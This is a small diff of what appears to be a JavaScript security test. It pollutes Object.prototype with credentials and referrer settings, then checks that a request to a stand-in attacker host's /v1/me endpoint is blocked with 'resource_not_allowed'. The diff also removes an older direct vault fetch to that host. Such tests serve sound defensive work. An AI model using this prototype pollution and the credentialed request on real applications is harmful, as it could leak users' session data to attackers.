@@ -26,7 +26,9 @@ export default {
     Object.prototype.credentials = "include";
     Object.prototype.referrer = evil;
   },
-  after: async ({ evil }) => {
-    await globalThis.app.vault.fetch(`${evil}/v1/me`).catch(String);
-  },
+  after: async ({ evil }, redteam) => ({
+    polluted: {}.worker === "/upload.js",
+    listed: await redteam.attempt(`${evil}/v1/me`),
+  }),
+  reached: ({ brought }) => brought.polluted && brought.listed === "resource_not_allowed",
 };
